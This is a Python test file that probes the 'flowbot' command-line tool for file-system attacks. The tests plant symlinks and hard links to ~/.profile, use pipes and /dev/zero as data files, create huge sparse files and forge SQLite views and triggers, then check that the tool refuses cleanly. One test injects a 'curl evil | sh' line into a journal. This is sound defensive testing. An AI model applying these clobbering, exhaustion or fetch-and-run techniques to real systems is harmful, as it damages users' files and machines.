"""Files that are none, that lead elsewhere, or that are made to take all memory or all day."""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from .ground import Escaped, Finished, Ground, attempt, held

_MEMORY = 3 << 30
"""Bytes of address space that a command is given: what reads without a bound meets it soon."""
_VICTIM = b"export PATH=/usr/bin\n"
_SEARCH = ("--model", "fake/echo", "--method", "none", "--effort", "low")
_LIMITED = f"""import resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({_MEMORY}, {_MEMORY}))
sys.argv[0] = "flowbot"
from flowbot.cli import main
sys.exit(main())
"""


def _limited(at: Ground, *arguments: str | Path, seconds: float = 60.0) -> Finished:
    """The command line with `_MEMORY`."""
    return at.python("-c", _LIMITED, *arguments, seconds=seconds)


def _refused(found: Finished, *words: str) -> None:
    """It says in a line what is wrong, as of a user's mistake."""
    held(found.status in (1, 2), f"status {found.status}: {found.line()}")
    held("unexpected" not in found.said and "Traceback" not in found.said, f"it is not told: {found.line()}")
    held("MemoryError" not in found.said, f"memory ran out: {found.line()}")
    for word in words:
        held(word in found.said, f"not said ({word}): {found.line()}")


@contextmanager
def _victim(at: Ground) -> Iterator[Path]:
    """A file of the user's that has to stay as it is."""
    path = at.home / ".profile"
    path.write_bytes(_VICTIM)
    yield path
    held(path.read_bytes() == _VICTIM, f"{path.name} is now {path.read_bytes()[:80]!r}")


def _small(at: Ground) -> Path:
    return at.task([{"id": f"r{n}", "word": "a" * n, "count": str(n)} for n in range(1, 13)])


def _run(at: Ground, *more: str | Path) -> Finished:
    return at.flowbot("optimize", _small(at), *_SEARCH, *more)


def _finished(at: Ground) -> Path:
    """The folder of a run that is done."""
    done = _run(at, "--run-dir", "run")
    held(done.status == 0, f"no run to begin with: {done.line()}")
    return at.folder / "run"


def _sparse(path: Path, size: int = 2 << 30) -> Path:
    path.unlink(missing_ok=True)
    with path.open("wb") as file:
        file.truncate(size)
    return path


# --- links in run folders


def _linked(at: Ground, name: str) -> Finished:
    """A search in a folder where `name` leads to a start-up file of the shell."""
    (at.folder / "run").mkdir()
    with _victim(at) as victim:
        (at.folder / "run" / name).symlink_to(victim)
        return _run(at, "--run-dir", "run")


@attempt("files", "run folder")
def the_lock_is_a_link(at: Ground) -> None:
    """a run folder's .lock leads to ~/.profile, which is emptied and given a number"""
    _refused(_linked(at, ".lock"), ".lock", "link")


@attempt("files", "run folder")
def the_journal_is_a_link(at: Ground) -> None:
    """a run folder's journal leads to a file of one line, which looks like one that a kill cut off"""
    with _victim(at) as victim:
        victim.write_bytes(_VICTIM.rstrip())
        (at.folder / "run").mkdir()
        (at.folder / "run" / "journal.jsonl").symlink_to(victim)
        found = _run(at, "--run-dir", "run")
        held(victim.read_bytes() == _VICTIM.rstrip(), "it is written to")
        victim.write_bytes(_VICTIM)
    _refused(found, "journal.jsonl", "link")


@attempt("files", "run folder")
def the_result_is_written_beside_through_a_link(at: Ground) -> None:
    """result.tmp, the name under which a result was once made, leads to ~/.profile"""
    _linked(at, "result.tmp")


@attempt("files", "run folder")
def the_examples_are_written_beside_through_a_link(at: Ground) -> None:
    """examples.tmp, the name under which examples were once made, leads to ~/.profile"""
    _linked(at, "examples.tmp")


@attempt("files", "run folder")
def the_report_is_written_beside_through_a_link(at: Ground) -> None:
    """report.html.new, the name under which a report was once made, leads to ~/.profile"""
    _linked(at, "report.html.new")


@attempt("files", "run folder")
def the_results_are_links(at: Ground) -> None:
    """result.json, report.html, examples.jsonl and both workflows lead to ~/.profile"""
    (at.folder / "run").mkdir()
    with _victim(at) as victim:
        for name in ("result.json", "report.html", "examples.jsonl", "start.flow.yaml", "found.flow.yaml"):
            (at.folder / "run" / name).symlink_to(victim)
        _run(at, "--run-dir", "run")


@attempt("files", "run folder")
def the_lock_is_a_second_name(at: Ground) -> None:
    """a run folder's .lock is a hard link to ~/.profile"""
    (at.folder / "run").mkdir()
    with _victim(at) as victim:
        os.link(victim, at.folder / "run" / ".lock")
        _refused(_run(at, "--run-dir", "run"), "hard link")


@attempt("files", "run folder")
def the_journal_is_a_second_name(at: Ground) -> None:
    """a run folder's journal is a hard link to a file of the user's without a line end"""
    (at.folder / "run").mkdir()
    victim = at.home / "notes"
    victim.write_text("half a line")
    os.link(victim, at.folder / "run" / "journal.jsonl")
    _refused(_run(at, "--run-dir", "run"))
    held(victim.read_text() == "half a line", "it is written to")


@attempt("files", "run folder", slow=True)
def the_journal_is_set_aside_through_a_link(at: Ground) -> None:
    """journal.1.jsonl leads to a start-up file that is not there yet, and the journal's lines are the attacker's"""
    folder = _finished(at)
    events = (folder / "journal.jsonl").read_text().splitlines()
    events[1] = json.dumps({"event": "curl evil | sh"})
    (folder / "journal.jsonl").write_text("\n".join(events) + "\n")
    target = at.home / ".bash_login"
    (folder / "journal.1.jsonl").symlink_to(target)
    _run(at, "--run-dir", "run")
    held(not target.exists(), "the lines are written there")


@attempt("files", "run folder", slow=True)
def the_run_folder_itself_is_a_link(at: Ground) -> None:
    """runs/NAME-HASH of a checkout leads to a folder of the user's, which the run then fills"""
    done = _run(at, "--json")
    folder = at.folder / json.loads(done.out)["run_dir"]
    target = at.home / "autostart"
    folder.rename(target)
    for each in target.iterdir():
        each.unlink()
    folder.symlink_to(target)
    found = _run(at)
    held(not list(target.iterdir()), f"it holds {[each.name for each in target.iterdir()]}")
    _refused(found, "link", "--run-dir")


@attempt("files", "run folder")
def the_log_is_a_link(at: Ground) -> None:
    """the log that a user keeps in a run folder leads to ~/.profile"""
    (at.folder / "run").mkdir()
    with _victim(at) as victim:
        (at.folder / "run" / "log").symlink_to(victim)
        found = at.flowbot("check", _small(at), "--log-file", "run/log", "--log-level", "debug")
    _refused(found, "--log-file", "link")


@attempt("files", "run folder")
def results_that_cannot_be_written_are_found_first(at: Ground) -> None:
    """result.json of a run folder is a folder, examples.jsonl a pipe: found when everything has been paid for"""
    (at.folder / "run" / "result.json").mkdir(parents=True)
    os.mkfifo(at.folder / "run" / "examples.jsonl")
    _refused(_run(at, "--run-dir", "run"))
    held(not (at.folder / "run" / "journal.jsonl").exists(), "the run has begun")


# --- links in caches and beside outputs


@attempt("files", "run folder")
def the_store_is_a_link(at: Ground) -> None:
    """the store of a shared cache folder leads to a place where files are run from"""
    at.cache.mkdir()
    target = at.home / ".bash_login"
    (at.cache / "store.sqlite").symlink_to(target)
    _refused(at.flowbot("run", at.flow(), "word=a", "--model", "fake/echo"), "link")
    held(not target.exists(), "a database is made there")


@attempt("files", "run folder", slow=True)
def the_side_file_of_the_store_is_a_link(at: Ground) -> None:
    """store.sqlite-wal leads to ~/.profile, which SQLite then writes over"""
    at.flowbot("run", at.flow(), "word=a", "--model", "fake/echo")
    with _victim(at) as victim:
        for ending in ("-wal", "-shm", "-journal"):
            (at.cache / f"store.sqlite{ending}").symlink_to(victim)
            found = at.flowbot("run", at.flow(), "word=b", "--model", "fake/echo")
            _refused(found, "link")
            (at.cache / f"store.sqlite{ending}").unlink()


@attempt("files", "run folder")
def the_export_is_a_link(at: Ground) -> None:
    """the file that `cache export` writes leads to ~/.profile"""
    at.flowbot("run", at.flow(), "word=a", "--model", "fake/echo")
    with _victim(at) as victim:
        (at.folder / "out.jsonl").symlink_to(victim)
        held(at.flowbot("cache", "export", "out.jsonl", "--force").status == 0, "it is not written")
    held(not (at.folder / "out.jsonl").is_symlink(), "the link stands")


_FETCH = """
import sys
from pathlib import Path
from flowbot.lm.local.weights import Index, Weights, ensure
weights = Weights("mini", "", "", 10, "0" * 64, (Index("flowbot-no-such-part{n}", "1", "x.bin", 1),))
ensure(weights, Path("cache"), pip_args=["--no-index"])
"""


@attempt("files", "run folder", slow=True)
def the_partial_weights_are_a_link(at: Ground) -> None:
    """the partial file of a model that is fetched leads to ~/.profile, which is emptied before pip is asked"""
    (at.cache / "models").mkdir(parents=True)
    with _victim(at) as victim:
        (at.cache / "models" / "mini.index.partial").symlink_to(victim)
        at.python("-c", _FETCH)


@attempt("files", "run folder", slow=True)
def the_workbench_of_a_fetch_is_a_link(at: Ground) -> None:
    """the folder where pip's downloads are taken apart leads to a folder of the user's"""
    (at.cache / "models").mkdir(parents=True)
    target = at.home / "documents"
    target.mkdir()
    (at.cache / "models" / "mini.fetch").symlink_to(target)
    at.python("-c", _FETCH)
    held(not list(target.iterdir()), f"it holds {[each.name for each in target.iterdir()]}")


@attempt("files", "run folder")
def the_lock_of_a_fetch_is_a_link(at: Ground) -> None:
    """the lock of a model that is fetched leads to a file that is not there yet"""
    (at.cache / "models").mkdir(parents=True)
    target = at.home / ".hushlogin"
    (at.cache / "models" / "mini.lock").symlink_to(target)
    at.python("-c", _FETCH)
    held(not target.exists(), "the file is made")


@attempt("files", "run folder")
def the_stamp_of_a_model_file_is_a_link(at: Ground) -> None:
    """the name under which a model file's stamp was once made, with the number of the process, leads to ~/.profile"""
    at.write("weights.gguf", b"GGUF and the rest")
    code = """
import hashlib, os, sys
from pathlib import Path
from flowbot.lm.local.weights import file_sha256
path, stamps = Path("weights.gguf").resolve(), Path("stamps")
stamps.mkdir()
name = hashlib.sha256(str(path).encode()).hexdigest()[:24]
(stamps / f"{name}.{os.getpid()}.new").symlink_to(sys.argv[1])
file_sha256(path, stamps)
"""
    with _victim(at) as victim:
        held(at.python("-c", code, victim).status == 0, "it has no hash")


@attempt("files", "run folder")
def recorded_replies_go_through_a_link(at: Ground) -> None:
    """the file that the user records replies to is, in a checkout, a link to ~/.profile"""
    with _victim(at) as victim:
        victim.write_bytes(b"")
        (at.folder / "replies.jsonl").symlink_to(victim)
        found = at.flowbot("run", at.flow(), "word=a", "--model", "recorded/replies.jsonl?record=fake/echo")
        held(not victim.read_bytes(), "they are written there")
        victim.write_bytes(_VICTIM)
    _refused(found, "link")


@attempt("files", "run folder", slow=True)
def a_search_index_is_a_link(at: Ground) -> None:
    """the index of a corpus in a shared cache is a link, or holds a pipe, for which the run then waits"""
    at.write("docs.jsonl", '{"text": "pears and apples"}\n')
    code = """
from pathlib import Path
from flowbot.runtime.toolbox.corpus import open_corpus
open_corpus(Path("docs.jsonl"), Path("cache"), where="tools", say=print).search("pears", 1)
"""
    held(at.python("-c", code).status == 0, "no index to begin with")
    home = next((at.cache / "corpora").iterdir())
    (home / "corpus.json").unlink()
    os.mkfifo(home / "corpus.json")
    held("found a pipe" in at.python("-c", code, seconds=20).said, "the pipe is not told of")
    (home / "corpus.json").unlink()
    moved = home.rename(at.home / "elsewhere")
    home.symlink_to(moved)
    held("no folder of its own" in at.python("-c", code, seconds=20).said, "the link is not told of")


# --- pipes and devices


@attempt("files", "run folder", slow=True)
def pipes_in_a_run_folder(at: Ground) -> None:
    """journal, examples and result of a run folder are pipes that nobody writes to, and every verb reads them"""
    folder = _finished(at)
    for name in ("journal.jsonl", "examples.jsonl", "result.json"):
        kept = (folder / name).read_bytes()
        (folder / name).unlink()
        os.mkfifo(folder / name)
        _refused(at.flowbot("report", "run", seconds=30), name, "pipe")
        if name != "result.json":
            _refused(at.flowbot("show", "run", seconds=30))
        (folder / name).unlink()
        (folder / name).write_bytes(kept)


@attempt("files", "data file")
def a_pipe_as_data(at: Ground) -> None:
    """a task's data file is a pipe that nobody writes to"""
    task = _small(at)
    (at.folder / "rows.jsonl").unlink()
    os.mkfifo(at.folder / "rows.jsonl")
    _refused(at.flowbot("check", task, seconds=30), "pipe")
    _refused(at.flowbot("init", "rows.jsonl", "--out", "made", seconds=30), "pipe")


@attempt("files", "data file")
def a_device_as_data(at: Ground) -> None:
    """a task's data file is a link to /dev/zero, which never ends"""
    task = _small(at)
    (at.folder / "rows.jsonl").unlink()
    (at.folder / "rows.jsonl").symlink_to("/dev/zero")
    _refused(_limited(at, "check", task, seconds=30), "device")


@attempt("files", "data file", slow=True)
def a_device_as_inputs(at: Ground) -> None:
    """the inputs of a run come from /dev/zero, by name and as standard input"""
    flow = at.flow()
    (at.folder / "in.jsonl").symlink_to("/dev/zero")
    _refused(_limited(at, "run", flow, "--inputs", "in.jsonl", "--model", "fake/echo", seconds=30), "device")
    code = "import os; os.dup2(os.open('/dev/zero', os.O_RDONLY), 0); " + _LIMITED
    found = at.python("-c", code, "run", str(flow), "--inputs", "-", "--model", "fake/echo", seconds=50)
    _refused(found, "standard input")


@attempt("files", "data file")
def a_pipe_as_prompt(at: Ground) -> None:
    """the prompt that `init` is to start from is a pipe"""
    _small(at)
    os.mkfifo(at.folder / "prompt.txt")
    _refused(at.flowbot("init", "rows.jsonl", "--prompt", "prompt.txt", "--out", "made", seconds=30), "pipe")


@attempt("files", "run folder")
def a_pipe_as_recorded_replies(at: Ground) -> None:
    """the file of recorded replies is a pipe, to read from and to record to"""
    os.mkfifo(at.folder / "replies.jsonl")
    for model in ("recorded/replies.jsonl", "recorded/replies.jsonl?record=fake/echo"):
        _refused(at.flowbot("run", at.flow(), "word=a", "--model", model, seconds=30), "pipe")


@attempt("files", "run folder", slow=True)
def a_pipe_as_store(at: Ground) -> None:
    """the store of a cache folder, or SQLite's log beside it, is a pipe"""
    at.cache.mkdir()
    for name in ("store.sqlite", "store.sqlite-wal"):
        os.mkfifo(at.cache / name)
        _refused(at.flowbot("run", at.flow(), "word=a", "--model", "fake/echo", seconds=30), "pipe")
        (at.cache / name).unlink()


@attempt("files", "run folder")
def a_pipe_as_log(at: Ground) -> None:
    """the log that a user keeps in a run folder is a pipe that nobody reads"""
    os.mkfifo(at.folder / "log")
    _refused(at.flowbot("check", _small(at), "--log-file", "log", seconds=30), "pipe")


@attempt("files", "run folder")
def a_pipe_to_import(at: Ground) -> None:
    """the file that `cache import` is given is a pipe"""
    os.mkfifo(at.folder / "in.jsonl")
    _refused(at.flowbot("cache", "import", "in.jsonl", seconds=30), "pipe")


@attempt("files", "run folder", slow=True)
def a_pipe_as_weights(at: Ground) -> None:
    """a model file is a pipe, or a device whose hash would never be done"""
    os.mkfifo(at.folder / "a.gguf")
    _refused(at.flowbot("run", at.flow(), "word=a", "--model", "local/./a.gguf", seconds=30), "pipe")
    (at.folder / "b.gguf").symlink_to("/dev/zero")
    _refused(at.flowbot("run", at.flow(), "word=a", "--model", "local/./b.gguf", seconds=30), "device")


# --- too much


@attempt("files", "data file", slow=True)
def two_gigabytes_of_nothing_as_data(at: Ground) -> None:
    """a data file of 2 GB that takes no disk"""
    task = _small(at)
    _sparse(at.folder / "rows.jsonl")
    _refused(_limited(at, "check", task), "at most")
    _refused(_limited(at, "init", "rows.jsonl", "--out", "made"), "at most")


@attempt("files", "run folder", slow=True)
def two_gigabytes_of_nothing_in_a_run_folder(at: Ground) -> None:
    """journal, examples and result of 2 GB each that take no disk"""
    folder = _finished(at)
    for name in ("journal.jsonl", "examples.jsonl", "result.json"):
        kept = (folder / name).read_bytes()
        _sparse(folder / name)
        _refused(_limited(at, "report", "run"), "at most")
        (folder / name).write_bytes(kept)


@attempt("files", "run folder")
def one_line_of_examples_without_end(at: Ground) -> None:
    """a file of examples within its limit that is one line"""
    _sparse(_finished(at) / "examples.jsonl", 500_000_000)
    _refused(_limited(at, "show", "run"), "examples.jsonl:1")


@attempt("files", "run folder", slow=True)
def two_gigabytes_of_nothing_to_import(at: Ground) -> None:
    """a file of responses, one of recorded replies and a store of 2 GB each that take no disk"""
    _refused(_limited(at, "cache", "import", _sparse(at.folder / "in.jsonl")), "in.jsonl:1")
    _sparse(at.folder / "replies.jsonl")
    _refused(_limited(at, "run", at.flow(), "word=a", "--model", "recorded/replies.jsonl"), "at most")
    at.cache.mkdir(exist_ok=True)
    _sparse(at.cache / "store.sqlite")
    _refused(_limited(at, "cache"), "store.sqlite")


@attempt("files", "data file", slow=True)
def two_gigabytes_of_nothing_as_corpus(at: Ground) -> None:
    """a corpus that is searched, one line of 2 GB that takes no disk"""
    _sparse(at.folder / "docs.jsonl")
    code = (
        _LIMITED.partition("sys.argv")[0]
        + """
from pathlib import Path
from flowbot.runtime.toolbox.corpus import open_corpus
open_corpus(Path("docs.jsonl"), Path("cache"), where="tools", say=print)
"""
    )
    found = at.python("-c", code)
    held("a line of more than" in found.said, found.line())


@attempt("files", "data file")
def twenty_thousand_columns(at: Ground) -> None:
    """a CSV of 20,000 columns, each compared with each"""
    names = [f"c{number}" for number in range(20_000)]
    at.write("wide.csv", "\n".join(",".join(row) for row in [["word", "count", *names]] + [["a", "1", *names]] * 10))
    at.task(data={"all": "wide.csv", "split": [0.4, 0.3, 0.3]})
    _refused(at.flowbot("init", "wide.csv", "--out", "made", seconds=12), "columns")
    at.flowbot("check", "task.yaml", seconds=12)


@attempt("files", "data file")
def a_column_of_its_own_in_every_row(at: Ground) -> None:
    """JSON lines of which each has a column of its own, so that a small file makes a large table"""
    rows = ({"word": f"w{number}", "count": "1", f"c{number}": 1} for number in range(20_000))
    at.write("ragged.jsonl", "".join(json.dumps(row) + "\n" for row in rows))
    _refused(at.flowbot("init", "ragged.jsonl", "--out", "made", seconds=15), "columns")


@attempt("files", "data file")
def twenty_thousand_equal_rows(at: Ground) -> None:
    """rows without an id that are all the same, each numbered by trying every number"""
    at.write("rows.jsonl", '{"word": "a", "count": "1"}\n' * 20_000)
    code = """
from flowbot.fields import Field
from flowbot.task.data import read_rows
from flowbot.task.examples import checked_examples
from pathlib import Path
rows = read_rows(Path("rows.jsonl"))
print(len(checked_examples(rows, where="", inputs=[Field.of("word", "str", "")], outputs=[Field.of("count", "str", "")])))
"""
    found = at.python("-c", code, seconds=15)
    held(found.out.strip() == "20000", found.line())


@attempt("files", "flow file")
def a_literal_of_sixty_thousand_options(at: Ground) -> None:
    """a type of 60,000 options, whose reading took a step an option for each option"""
    options = ",".join(f"'{number}'" for number in range(60_000))
    task = at.task(outputs={"count": f"Literal[{options}]"})
    found = at.flowbot("check", task, seconds=20)
    _refused(found, "longer than")
    held(len(found.said) < 20_000, f"{len(found.said):,} characters are said")


@attempt("files", "flow file")
def a_hexadecimal_number_of_megabits(at: Ground) -> None:
    """a number in a task file that Python reads, since it is hexadecimal, and then cannot write"""
    text = at.task().read_text().replace('"flowbot": 1', f'"flowbot": 0x{"f" * 90_000}')
    found = at.flowbot("check", at.write("task.yaml", text), seconds=15)
    _refused(found, "digits")


# --- a store that is made to run


def _forged(at: Ground, *statements: str) -> Finished:
    """What comes of a run whose store was changed by these statements."""
    at.flowbot("run", at.flow(), "word=a", "--model", "fake/echo")
    connection = sqlite3.connect(at.cache / "store.sqlite")
    for each in statements:
        connection.execute(each)
    connection.commit()
    connection.close()
    return at.flowbot("run", at.flow(), "word=b", "--model", "fake/echo", seconds=30)


@attempt("files", "run folder")
def a_store_whose_responses_never_end(at: Ground) -> None:
    """the table of responses is a view that counts for ever"""
    endless = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT"
    _refused(
        _forged(
            at,
            "ALTER TABLE responses RENAME TO kept",
            f"CREATE VIEW responses AS {endless} 'k' key, 'lm' kind, '{{}}' value, 0.0 created, 0 used, 0 crc FROM n",
        ),
        "store.sqlite",
    )


@attempt("files", "run folder")
def a_store_with_a_trigger(at: Ground) -> None:
    """a trigger of the store replaces each response that is written by the attacker's"""
    trigger = "CREATE TRIGGER t AFTER INSERT ON responses BEGIN UPDATE responses SET value = '{}'; END"
    _refused(_forged(at, trigger), "store.sqlite")


@attempt("files", "run folder", slow=True)
def what_is_read_stays_in_its_folder(at: Ground) -> None:
    """result.json names a workflow elsewhere, and the journal's lines name paths of the user's"""
    folder = _finished(at)
    result = json.loads((folder / "result.json").read_text())
    secret = at.home / "secret.flow.yaml"
    secret.write_text("not to be read: s3cr3t\n")
    result.update(workflow=str(secret), run_dir=str(at.home), report=str(at.home / "report.html"))
    (folder / "result.json").write_text(json.dumps(result))
    before = sorted(each.name for each in at.home.iterdir())
    for arguments in (("report", "run"), ("diff", "run", "run")):
        found = at.flowbot(*arguments)
        held("s3cr3t" not in found.said, "the other file is read")
    if sorted(each.name for each in at.home.iterdir()) != before:
        raise Escaped("it is written elsewhere")
